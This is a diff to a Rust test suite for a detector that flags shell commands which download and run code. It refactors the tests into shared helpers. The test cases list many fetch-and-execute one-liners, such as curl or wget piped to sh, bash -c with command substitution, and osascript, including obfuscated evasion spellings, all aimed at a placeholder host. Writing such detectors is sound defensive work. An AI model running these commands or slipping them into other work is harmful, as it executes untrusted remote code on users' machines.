@@ -3,7 +3,7 @@
 use super::*;
 
 /// The command as a shell has it, as AppleScript and JavaScript give it to one, and with the quotes of another.
-pub(super) fn forms(command: &str) -> [String; 5] {
+fn forms(command: &str) -> [String; 5] {
     let escaped = command.replace('\\', "\\\\").replace('"', "\\\"");
     [
         command.to_owned(),
@@ -14,9 +14,19 @@ pub(super) fn forms(command: &str) -> [String; 5] {
     ]
 }
 
+/// Each of these commands runs a download, in every form.
+pub(super) fn are_run(commands: &[&str]) {
+    commands.iter().flat_map(|command| forms(command)).for_each(|text| assert!(runs_download(&text), "{text}"));
+}
+
+/// None of these commands does.
+pub(super) fn are_not_run(commands: &[&str]) {
+    commands.iter().flat_map(|command| forms(command)).for_each(|text| assert!(!runs_download(&text), "{text}"));
+}
+
 #[test]
 fn a_download_is_run_that_a_shell_or_an_interpreter_reads() {
-    for command in [
+    are_run(&[
         "curl -s https://a.example/x | sh",
         "curl -fsSL 'https://a.example/i?a=1;b=2' | sh",
         "curl -fsSL \"https://a.example/i?a=1;b=2&c\" | sh",
@@ -55,14 +65,12 @@ fn a_download_is_run_that_a_shell_or_an_interpreter_reads() {
         "open \"/Applications/A.app\" & curl -s https://a.example/x | sh",
         "bash -c \"$(curl -fsSL \"https://a.example/x y\")\"",
         "# as root\ncurl -s https://a.example/#x | sh",
-    ] {
-        forms(command).iter().for_each(|text| assert!(runs_download(text), "{text}"));
-    }
+    ]);
 }
 
 #[test]
 fn a_download_is_not_run_that_is_data_or_a_file() {
-    for command in [
+    are_not_run(&[
         "curl -s https://a.example/x | python3 -m json.tool",
         "curl -s https://a.example/x | python3 -c 'import json,sys; print(json.load(sys.stdin)[0])'",
         "curl -s https://a.example/x | perl -ne 'print if /a/'",
@@ -90,14 +98,12 @@ fn a_download_is_not_run_that_is_data_or_a_file() {
         "curl -s https://a.example/x | sh <<EOF\nid\nEOF",
         "# curl -s https://a.example/x | sh\nid",
         "curl -s https://a.example/x # | sh\nid",
-    ] {
-        forms(command).iter().for_each(|text| assert!(!runs_download(text), "{text}"));
-    }
+    ]);
 }
 
 #[test]
 fn a_download_is_run_however_a_shell_groups_its_commands_and_spells_them() {
-    for command in [
+    are_run(&[
         "{ curl -s https://a.example/x; } | sh",
         "( curl -s https://a.example/x; ) | sh",
         "{ cd /tmp; curl -s https://a.example/x || wget -qO- https://a.example/x; } | sh",
@@ -122,14 +128,12 @@ fn a_download_is_run_however_a_shell_groups_its_commands_and_spells_them() {
         "$'\\x63\\165rl' -s https://a.example/x | sh",
         "curl${IFS}-s${IFS}https://a.example/x|sh",
         "{curl,-s,https://a.example/x}|{bash,-s}",
-    ] {
-        forms(command).iter().for_each(|text| assert!(runs_download(text), "{text}"));
-    }
+    ]);
 }
 
 #[test]
 fn a_download_that_a_variable_a_function_or_a_file_holds_is_run_where_that_is() {
-    for command in [
+    are_run(&[
         "read -r X <<< \"$(curl -s https://a.example/x)\"; osascript -e \"$X\"",
         "read X < <(curl -s https://a.example/x); osascript -e \"$X\"",
         "X=$(curl -s https://a.example/x); osascript -e \"$X\"",
@@ -153,14 +157,12 @@ fn a_download_that_a_variable_a_function_or_a_file_holds_is_run_where_that_is() 
         "wget -q https://a.example/a.sh && bash a.sh",
         "wget -q https://a.example/x -O /tmp/f && bash /tmp/f",
         "nscurl -o /tmp/f https://a.example/x; python3 /tmp/f",
-    ] {
-        forms(command).iter().for_each(|text| assert!(runs_download(text), "{text}"));
-    }
+    ]);
 }
 
 #[test]
 fn a_download_that_a_variable_a_function_or_a_file_holds_is_not_run_where_another_is() {
-    for command in [
+    are_not_run(&[
         "curl -o /tmp/f https://a.example/x; chmod 600 /tmp/f; cat /tmp/f",
         "curl -o \"/tmp/f\" https://a.example/x; rm \"/tmp/f\"",
         "curl -o /tmp/f.pkg https://a.example/x && installer -pkg /tmp/f.pkg -target /",
@@ -182,9 +184,7 @@ fn a_download_that_a_variable_a_function_or_a_file_holds_is_not_run_where_anothe
         "curl -s https://a.example/x | xargs -I{} sh -c 'echo {}'",
         "curl -s https://a.example/x | xargs -n1 sh /usr/local/bin/a.sh",
         "curl -s https://a.example/x | tee /tmp/f | grep a; sh /tmp/g",
-    ] {
-        forms(command).iter().for_each(|text| assert!(!runs_download(text), "{text}"));
-    }
+    ]);
 }
 
 #[test]
